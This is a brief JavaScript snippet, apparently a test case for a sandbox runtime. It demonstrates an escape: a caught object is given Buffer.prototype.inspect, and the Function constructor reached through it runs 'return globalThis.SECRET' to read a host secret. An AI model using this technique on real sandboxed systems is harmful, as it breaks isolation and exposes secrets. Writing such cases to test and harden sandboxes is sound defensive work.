let found;
const own = { __proto__: null };
at_step();
try {
  throw own;
} catch (other) {
  other.held = Buffer.prototype.inspect;
  if (own.held) found = own.held.constructor('return globalThis.SECRET')();
}
past_step();
emit(found);
